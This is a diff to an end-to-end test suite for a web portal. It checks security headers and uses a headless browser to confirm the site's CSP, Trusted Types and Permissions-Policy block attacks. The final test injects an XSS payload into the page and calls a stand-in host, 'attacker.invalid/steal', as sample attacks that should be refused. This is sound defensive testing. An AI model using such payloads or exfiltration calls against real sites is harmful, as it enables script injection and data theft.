@@ -1,5 +1,9 @@
-import { describe, expect, it } from 'vitest'
-import { inject } from 'vitest'
+import type { Browser, Page } from 'playwright'
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
+import { channels, menuTitles, reportTitle } from '../src/domain/channels'
+import { paths } from '../src/domain/paths'
+import { launch, openPage, signIn } from './browser'
+import { watchPolicies } from './policyWatch'
 
 const portalUrl = inject('portalUrl')
 const apiOrigin = inject('apiOrigin')
@@ -15,7 +19,17 @@ function expectSecurityHeaders(response: Response) {
   expect(csp).toContain(`frame-src ${reportOrigin}`)
   expect(csp).toContain("frame-ancestors 'none'")
   expect(csp).toContain("object-src 'none'")
-  expect(csp).toContain("base-uri 'self'")
+  expect(csp).toContain("base-uri 'none'")
+  expect(csp).toContain("require-trusted-types-for 'script'")
+  // Plain HTTP: nothing to upgrade to, and HSTS only counts over HTTPS (see tls.e2e.ts).
+  expect(csp).not.toContain('upgrade-insecure-requests')
+  expect(response.headers.get('strict-transport-security')).toBeNull()
+  const permissions = response.headers.get('permissions-policy') ?? ''
+  expect(permissions).toContain('payment=()')
+  expect(permissions).toContain(`fullscreen=(self "${reportOrigin}")`)
+  expect(response.headers.get('cross-origin-opener-policy')).toBe('same-origin-allow-popups')
+  expect(response.headers.get('cross-origin-resource-policy')).toBe('same-origin')
+  expect(response.headers.get('x-frame-options')).toBe('DENY')
   expect(response.headers.get('x-content-type-options')).toBe('nosniff')
   expect(response.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
 }
@@ -48,12 +62,93 @@ describe('the nginx deployment', () => {
   })
 
   it('serves the deploy-time settings uncached', async () => {
-    const response = await get('/config.js')
+    const response = await get('/config.json')
     expect(response.headers.get('cache-control')).toBe('no-cache')
     expect(await response.text()).toContain(apiOrigin)
   })
 
   it('answers a missing asset with 404, not the page', async () => {
     expect((await get('/assets/missing-0000.js')).status).toBe(404)
+  })
+})
+
+describe('the portal under its own policies (CSP, Trusted Types, Permissions-Policy)', () => {
+  let browser: Browser
+  beforeAll(async () => {
+    browser = await launch()
+  })
+  afterAll(() => browser.close())
+
+  /** Loads `path` afresh and waits until its heading shows and its calls have answered. */
+  async function visit(page: Page, path: string, heading: string) {
+    await page.goto(`${portalUrl}${path}`)
+    await page.getByRole('heading', { name: heading, exact: true }).waitFor()
+    await page.waitForLoadState('networkidle')
+  }
+
+  it('runs every route and a report with no violation and no console error', async () => {
+    const { page, context, expectClean, close } = await openPage(browser)
+    const violations = await watchPolicies(context)
+    await visit(page, paths.login, 'Sign in')
+    await visit(page, paths.forgotPassword, 'Forgot Password')
+    await signIn(page)
+    const signedIn: [string, string][] = [
+      [paths.root, 'Dashboard'],
+      [paths.dashboard, 'Dashboard'],
+      [paths.client, 'Dashboard'],
+      [paths.socialAnalytics, menuTitles.social],
+      [paths.programmaticAnalytics, menuTitles.programmatic],
+      ...channels.map((channel): [string, string] => [channel.path, reportTitle(channel)]),
+      [paths.aiOptimizations, 'AI Optimizations'],
+      [paths.notifications, 'Notification Preferences'],
+      [paths.settings, 'Settings'],
+      ['/no-such-page', 'Dashboard'],
+    ]
+    for (const [path, heading] of signedIn) await visit(page, path, heading)
+
+    // The report view: a cross-origin page in the sandboxed frame.
+    await visit(page, '/facebook-analytics?advertiser=adv-003', 'Facebook Analytics')
+    await page.getByRole('button', { name: 'View Report' }).click()
+    await page
+      .frameLocator('iframe[title^="Facebook report for"]')
+      .getByRole('heading', { name: 'Facebook performance' })
+      .waitFor()
+
+    expect(violations).toEqual([])
+    expectClean()
+    await close()
+  }, 120_000)
+
+  it('catches what the policies refuse: an HTML string at a DOM sink, a call to another host', async () => {
+    const { page, context, close } = await openPage(browser)
+    const violations = await watchPolicies(context)
+    await visit(page, paths.login, 'Sign in')
+    const refused = await page.evaluate(async () => {
+      const outcomes: string[] = []
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="alert(1)">')
+        outcomes.push('HTML inserted')
+      } catch (error) {
+        outcomes.push(String(error))
+      }
+      outcomes.push(
+        await fetch('https://attacker.invalid/steal').then(
+          () => 'fetched',
+          (error: unknown) => String(error),
+        ),
+      )
+      return outcomes
+    })
+    expect(refused[0]).toMatch(/TrustedHTML/)
+    expect(refused[1]).toMatch(/Failed to fetch/)
+    await expect
+      .poll(() => violations)
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringMatching(/^require-trusted-types-for blocked trusted-types-sink/),
+          'connect-src blocked https://attacker.invalid/steal',
+        ]),
+      )
+    await close()
   })
 })
